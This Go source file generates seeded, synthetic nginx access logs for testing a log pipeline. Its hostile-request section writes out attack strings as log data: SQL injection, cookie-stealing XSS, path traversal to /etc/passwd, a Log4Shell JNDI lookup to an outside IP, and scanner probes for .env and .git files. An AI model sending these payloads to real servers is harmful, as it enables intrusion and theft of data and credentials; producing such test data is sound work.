// Package loggen generates realistic nginx access logs: seeded and
// reproducible, rendered through any log_format (a preset name or a format
// body), with a small share of the hostile and garbage requests that real
// servers log. It feeds tests, demos and benchmarks of the pipeline.
package loggen

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/datastream/datastream/internal/logformat"
)

// Options configure a Gen.
type Options struct {
	Seed int64
	// Format is a preset name from logformat.Presets or a log_format body
	// (optionally with an escape= prefix and nginx quoting). Default "combined".
	Format string
	// Start is the time of the first request (default 2026-01-01 00:00:00 in
	// the generator's zone).
	Start time.Time
	// Step is the mean time between two requests (default 10ms); each step
	// is drawn uniformly from [0, 2×Step).
	Step time.Duration
	// Zone is the server's time zone for $time_local/$time_iso8601; default
	// a fixed offset chosen by the seed.
	Zone *time.Location
	// Hostile is the share of hostile or garbage requests: 0 means the
	// default 1%, a negative value none.
	Hostile float64
	// Clients is the size of the client pool (default 5000).
	Clients int
}

// Record is the truth behind one generated line. Absent values are "" (the
// line shows "-", or nothing under escape=json).
type Record struct {
	Time       time.Time // in the generator's zone; logged to the second ($msec: millisecond)
	RemoteAddr string
	RemoteUser string
	Ident      string // $ident
	Session    string // $session

	// Request is the request line exactly as received (raw bytes, before
	// log escaping). WellFormed says whether it is METHOD SP URI SP PROTOCOL,
	// in which case the parts below are set.
	Request    string
	WellFormed bool
	Method     string
	URI        string // origin form "/p?q" or absolute "https://h:443/p?q"
	Protocol   string
	Scheme     string // of an absolute URI
	Host       string // of an absolute URI
	Port       string // of an absolute URI with a port
	Path       string
	Query      string // without '?'
	HasQuery   bool

	Status        int
	BodyBytesSent int64
	BytesSent     int64
	RequestLength int64
	RequestTime   time.Duration // logged with millisecond resolution
	// UpstreamResponseTimes is $upstream_response_time as logged, e.g.
	// "0.012" or "0.010, 0.020 : 0.030"; "" when no upstream was involved.
	UpstreamResponseTimes string
	UpstreamAddr          string

	Referer       string
	UserAgent     string
	XForwardedFor string
	HostHeader    string // $host
	RequestID     string
	Hostile       bool
}

type client struct {
	ip, ua, user string
	kind         int // clientBrowser...
}

const (
	clientBrowser = iota
	clientMobile
	clientBot
	clientTool
	clientScanner
)

// Gen produces lines. It is not safe for concurrent use.
type Gen struct {
	r       *rand.Rand
	zipf    *rand.Zipf
	tpl     *template
	clients []client
	proxy   bool // format carries $session/$ident: proxy-style absolute URLs
	t       time.Time
	step    int64
	zone    *time.Location
	hostile int // per 1e6

	status *table[int]
	buf    []byte
	tcache [3]struct {
		sec int64
		s   string
	}
}

var zones = []*time.Location{
	time.FixedZone("", 0), time.FixedZone("", 3600), time.FixedZone("", 2*3600),
	time.FixedZone("", -5*3600), time.FixedZone("", -8*3600), time.FixedZone("", 5*3600+1800),
	time.FixedZone("", 9*3600), time.FixedZone("", -3*3600-1800),
}

// New builds a generator.
func New(o Options) (*Gen, error) {
	spec := o.Format
	if spec == "" {
		spec = "combined"
	}
	if body, ok := logformat.Presets[spec]; ok {
		spec = body
	}
	esc, body, err := parseSpec(spec)
	if err != nil {
		return nil, err
	}
	tpl, err := compileTemplate(esc, body)
	if err != nil {
		return nil, err
	}
	r := rand.New(rand.NewPCG(uint64(o.Seed), 0x9e3779b97f4a7c15))
	g := &Gen{r: r, tpl: tpl, proxy: tpl.has[vSession] || tpl.has[vIdent]}
	g.zone = o.Zone
	if g.zone == nil {
		g.zone = zones[r.IntN(len(zones))]
	}
	g.t = o.Start
	if g.t.IsZero() {
		g.t = time.Date(2026, 1, 1, 0, 0, 0, 0, g.zone)
	}
	g.t = g.t.In(g.zone)
	step := o.Step
	if step <= 0 {
		step = 10 * time.Millisecond
	}
	g.step = int64(step)
	switch {
	case o.Hostile < 0:
	case o.Hostile == 0:
		g.hostile = 10000
	default:
		g.hostile = int(min(o.Hostile, 1) * 1e6)
	}
	n := o.Clients
	if n <= 0 {
		n = 5000
	}
	g.clients = make([]client, n)
	for i := range g.clients {
		g.clients[i] = g.newClient()
	}
	g.zipf = rand.NewZipf(r, 1.2, 2, uint64(n-1))
	g.status = newTable([]weighted[int]{
		{200, 760}, {304, 90}, {404, 50}, {301, 25}, {302, 15}, {206, 8}, {401, 8},
		{403, 10}, {400, 5}, {499, 6}, {500, 10}, {502, 8}, {503, 4}, {504, 1},
	})
	return g, nil
}

func (g *Gen) newClient() client {
	r := g.r
	c := client{}
	if r.IntN(100) < 15 {
		p := ipv6Prefixes[r.IntN(len(ipv6Prefixes))]
		if r.IntN(2) == 0 {
			c.ip = fmt.Sprintf("%s:%x:%x::%x", p, r.IntN(0x10000), r.IntN(0x10000), 1+r.IntN(0xffff))
		} else {
			c.ip = fmt.Sprintf("%s:%x:%x:%x:%x:%x:%x", p, r.IntN(0x10000), r.IntN(0x10000),
				r.IntN(0x10000), r.IntN(0x10000), r.IntN(0x10000), r.IntN(0x10000))
		}
	} else {
		a := 1 + r.IntN(222)
		for a == 10 || a == 127 || a == 100 || a == 172 || a == 192 {
			a = 1 + r.IntN(222)
		}
		c.ip = fmt.Sprintf("%d.%d.%d.%d", a, r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}
	switch k := r.IntN(1000); {
	case k < 600:
		c.kind, c.ua = clientBrowser, browserUAs[r.IntN(len(browserUAs))]
	case k < 860:
		c.kind, c.ua = clientMobile, mobileUAs[r.IntN(len(mobileUAs))]
	case k < 930:
		c.kind, c.ua = clientBot, botUAs[r.IntN(len(botUAs))]
	case k < 980:
		c.kind, c.ua = clientTool, toolUAs[r.IntN(len(toolUAs))]
	default:
		c.kind, c.ua = clientScanner, scannerUAs[r.IntN(len(scannerUAs))]
	}
	if c.kind <= clientMobile && r.IntN(100) < 6 {
		c.user = users[r.IntN(len(users))]
	}
	if r.IntN(200) == 0 {
		c.ua = "" // no User-Agent header at all
	}
	return c
}

// Next returns the next record and its line (without '\n'). The line is
// valid until the next call.
func (g *Gen) Next() (Record, []byte) {
	var rec Record
	g.fill(&rec)
	g.buf = g.render(g.buf[:0], &rec)
	return rec, g.buf
}

// AppendNext appends the next line and a '\n' to dst, skipping the Record.
func (g *Gen) AppendNext(dst []byte) []byte {
	var rec Record
	g.fill(&rec)
	dst = g.render(dst, &rec)
	return append(dst, '\n')
}

func (g *Gen) fill(rec *Record) {
	r := g.r
	g.t = g.t.Add(time.Duration(r.Int64N(2*g.step + 1)))
	rec.Time = g.t
	c := &g.clients[g.zipf.Uint64()]
	rec.RemoteAddr, rec.UserAgent, rec.RemoteUser = c.ip, c.ua, c.user
	rec.HostHeader = hosts[r.IntN(len(hosts))]
	if g.proxy {
		rec.Ident = ""
		if r.IntN(10) > 0 {
			rec.Session = sessionID(r)
		}
	}
	if r.IntN(8) == 0 {
		rec.XForwardedFor = g.clients[r.IntN(len(g.clients))].ip
		if r.IntN(3) == 0 {
			rec.XForwardedFor += ", 10.0.0." + strconv.Itoa(1+r.IntN(254))
		}
	}
	x, y := r.Uint64(), r.Uint64()
	if g.tpl.has[vRequestID] {
		rec.RequestID = requestID(x, y)
	}

	if g.hostile > 0 && r.IntN(1e6) < g.hostile {
		g.fillHostile(rec)
	} else {
		g.fillNormal(rec, c)
	}
	rec.RequestLength = int64(len(rec.Request)) + 120 + int64(len(rec.UserAgent)) + int64(r.IntN(400))
	if rec.Status == 400 && !rec.WellFormed {
		rec.RequestLength = int64(len(rec.Request))
	}
	rec.BytesSent = rec.BodyBytesSent + 180 + int64(r.IntN(120))
}

func (g *Gen) fillNormal(rec *Record, c *client) {
	r := g.r
	method, proto := "GET", "HTTP/1.1"
	switch k := r.IntN(100); {
	case k < 25:
		proto = "HTTP/2.0"
	case k < 27:
		proto = "HTTP/1.0"
	}
	var path, query string
	var hasQuery, static, api bool
	switch k := r.IntN(100); {
	case c.kind == clientScanner && k < 70:
		path = []string{"/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/admin/", "/server-status", "/actuator/health", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}[r.IntN(8)]
	case k < 45:
		static = true
		path = staticPaths[r.IntN(len(staticPaths))]
		if strings.HasSuffix(path, "/") {
			path += strconv.Itoa(1000+r.IntN(9000)) + ".webp"
		}
		if r.IntN(10) == 0 {
			query, hasQuery = "v="+strconv.Itoa(r.IntN(100)), true
		}
	case k < 75:
		path = pagePaths[r.IntN(len(pagePaths))]
		switch {
		case path == "/search":
			query, hasQuery = "q="+searchTerms[r.IntN(len(searchTerms))], true
		case strings.HasSuffix(path, "/") && path != "/" && r.IntN(2) == 0:
			path += strconv.Itoa(1 + r.IntN(5000))
		case r.IntN(12) == 0:
			query, hasQuery = "utm_source=newsletter&utm_medium=email&utm_campaign=nov", true
		}
	default:
		api = true
		path = apiPaths[r.IntN(len(apiPaths))]
		if strings.HasSuffix(path, "/") && r.IntN(3) > 0 {
			path += strconv.Itoa(1 + r.IntN(100000))
		}
		switch r.IntN(5) {
		case 0:
			query, hasQuery = "page="+strconv.Itoa(1+r.IntN(20))+"&per_page=50&sort=-created_at", true
		case 1:
			query, hasQuery = "fields=id,name,email&include=orders", true
		case 2:
			if r.IntN(10) == 0 {
				query, hasQuery = "", true // a bare '?'
			}
		}
		switch k := r.IntN(100); {
		case k < 20:
			method = "POST"
		case k < 24:
			method = "PUT"
		case k < 26:
			method = "DELETE"
		case k < 28:
			method = "PATCH"
		case k < 31:
			method = "OPTIONS"
		}
	}
	if method == "GET" && r.IntN(60) == 0 {
		method = "HEAD"
	}
	if path == "/login" && r.IntN(2) == 0 {
		method = "POST"
	}
	uri := path
	if hasQuery {
		uri += "?" + query
	}
	rec.Method, rec.Protocol, rec.Path, rec.Query, rec.HasQuery, rec.WellFormed = method, proto, path, query, hasQuery, true
	if g.proxy && r.IntN(10) < 8 {
		rec.Scheme = "https"
		rec.Host = proxyHosts[r.IntN(len(proxyHosts))]
		if r.IntN(3) > 0 {
			rec.Port = "443"
			uri = "https://" + rec.Host + ":443" + uri
		} else {
			uri = "https://" + rec.Host + uri
		}
	}
	rec.URI = uri
	rec.Request = method + " " + uri + " " + proto

	st := g.status.pick(r.IntN(g.status.total))
	if st == 304 && !static {
		st = 200
	}
	if st == 206 && !static {
		st = 200
	}
	rec.Status = st
	switch {
	case st == 304 || st == 204 || method == "HEAD" || method == "OPTIONS":
		rec.BodyBytesSent = 0
	case st >= 300 && st < 400:
		rec.BodyBytesSent = 162 + int64(r.IntN(20))
	case st == 404:
		rec.BodyBytesSent = 146 + int64(r.IntN(3000))
	case st >= 500:
		rec.BodyBytesSent = 157 + int64(r.IntN(400))
	case static:
		rec.BodyBytesSent = 200 + int64(r.ExpFloat64()*40000)
	case api:
		rec.BodyBytesSent = 2 + int64(r.ExpFloat64()*3000)
	default:
		rec.BodyBytesSent = 4000 + int64(r.ExpFloat64()*30000)
	}
	if st == 499 {
		rec.BodyBytesSent = 0
	}

	// Referrer.
	switch k := r.IntN(100); {
	case c.kind >= clientBot || k < 35:
	case k < 75:
		rec.Referer = "https://" + hosts[r.IntN(2)] + pagePaths[r.IntN(len(pagePaths)-1)]
	case k < 93:
		rec.Referer = searchReferers[r.IntN(len(searchReferers))]
		if strings.HasSuffix(rec.Referer, "=") {
			rec.Referer += searchTerms[r.IntN(len(searchTerms))]
		}
	default:
		rec.Referer = otherReferers[r.IntN(len(otherReferers))]
	}

	// Timings: static files come from disk, the rest from upstreams.
	if static {
		rec.RequestTime = time.Duration(r.IntN(5)) * time.Millisecond
	} else {
		up := time.Duration(1+int(r.ExpFloat64()*40)) * time.Millisecond
		rec.RequestTime = up + time.Duration(r.IntN(3))*time.Millisecond
		rec.UpstreamResponseTimes = secs(up)
		rec.UpstreamAddr = upstreams[r.IntN(len(upstreams))]
		if st >= 502 || r.IntN(60) == 0 {
			// nginx tried several upstreams (',') or went through an
			// internal redirect (':').
			a := time.Duration(r.IntN(40)) * time.Millisecond
			b := time.Duration(r.IntN(40)) * time.Millisecond
			rec.UpstreamResponseTimes = secs(a) + ", " + secs(b) + " : " + secs(up)
			rec.UpstreamAddr = upstreams[0] + ", " + upstreams[1] + " : " + upstreams[2]
			rec.RequestTime = a + b + up
		}
		if st == 499 {
			rec.UpstreamResponseTimes = "-"
			if r.IntN(2) == 0 {
				rec.UpstreamResponseTimes = secs(up)
			}
		}
	}
}

func (g *Gen) fillHostile(rec *Record) {
	r := g.r
	rec.Hostile = true
	rec.Status, rec.BodyBytesSent = 400, 157
	rec.Referer = ""
	switch r.IntN(7) {
	case 0: // connection opened and closed without a request
		rec.Request, rec.BodyBytesSent = "", 0
		rec.UserAgent = ""
	case 1: // a TLS ClientHello sent to a plain HTTP port
		b := []byte{0x16, 0x03, 0x01, 0x00, byte(0xa0 + r.IntN(0x60)), 0x01, 0x00, 0x00, byte(0x9c + r.IntN(0x60)), 0x03, 0x03}
		for range 8 + r.IntN(24) {
			b = append(b, byte(r.IntN(256)))
		}
		rec.Request, rec.UserAgent = string(b), ""
	case 2: // a bare path, no method or protocol
		rec.Request = []string{"/", "/index.html", "/admin", "*"}[r.IntN(4)]
		rec.UserAgent = ""
	case 3: // SQL injection in the query
		g.hostileRequest(rec, "GET", "/products", []string{
			"id=1' OR '1'='1",
			"id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
			"id=1; DROP TABLE users;--",
			"q=' UNION SELECT NULL,@@version-- -",
		}[r.IntN(4)])
	case 4: // cross-site scripting payloads
		g.hostileRequest(rec, "GET", "/search", []string{
			`q=<script>alert(document.cookie)</script>`,
			`q="><script>alert("xss")</script>`,
			`q=%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
			`q=<img src=x onerror=alert(1)>\`,
		}[r.IntN(4)])
	case 5: // path traversal and shell injection
		g.hostileRequest(rec, "GET", []string{"/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/index.php"}[r.IntN(3)],
			[]string{"", "cmd=${jndi:ldap://198.51.100.9/a}", "s=/index/\\think\\app/invokefunction"}[r.IntN(3)])
	default: // control bytes and raw non-ASCII in the request line
		g.hostileRequest(rec, "GET", "/\x01\x7f\xc3\xa9\xff", "x=\t\"")
	}
	if rec.WellFormed {
		rec.Status = []int{400, 403, 404, 200, 500}[r.IntN(5)]
	}
}

func (g *Gen) hostileRequest(rec *Record, method, path, query string) {
	rec.Method, rec.Path, rec.Protocol, rec.WellFormed = method, path, "HTTP/1.1", true
	rec.URI = path
	if query != "" {
		rec.Query, rec.HasQuery = query, true
		rec.URI += "?" + query
	}
	rec.Request = method + " " + rec.URI + " " + rec.Protocol
}

// secs formats a duration as nginx logs times: seconds with 3 decimals.
func secs(d time.Duration) string {
	ms := d.Milliseconds()
	b := strconv.AppendInt(make([]byte, 0, 8), ms/1000, 10)
	return string(append(b, '.', byte('0'+ms%1000/100), byte('0'+ms%100/10), byte('0'+ms%10)))
}

const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

func sessionID(r *rand.Rand) string {
	var b [15]byte
	for i := range b {
		b[i] = alnum[r.IntN(len(alnum))]
	}
	return string(b[:])
}

func requestID(x, y uint64) string {
	var b [32]byte
	for i := range 16 {
		b[i] = "0123456789abcdef"[x>>(4*i)&0xf]
		b[16+i] = "0123456789abcdef"[y>>(4*i)&0xf]
	}
	return string(b[:])
}
